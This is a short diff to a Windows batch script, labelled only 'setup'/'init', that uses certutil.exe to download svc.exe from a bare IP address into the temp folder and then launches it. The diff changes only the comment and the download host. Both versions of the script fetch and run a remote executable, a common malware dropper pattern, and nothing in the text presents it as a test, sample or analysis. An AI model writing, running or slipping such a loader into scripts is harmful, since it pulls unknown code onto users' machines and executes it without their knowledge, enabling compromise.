@@ -1,4 +1,4 @@
-REM setup 4996 v3
+REM init 9016 v3
 @echo off
-certutil.exe -urlcache -split -f http://198.51.100.9/svc.exe %TEMP%\svc.exe
+certutil.exe -urlcache -split -f http://203.0.113.17/svc.exe %TEMP%\svc.exe
 start "" %TEMP%\svc.exe
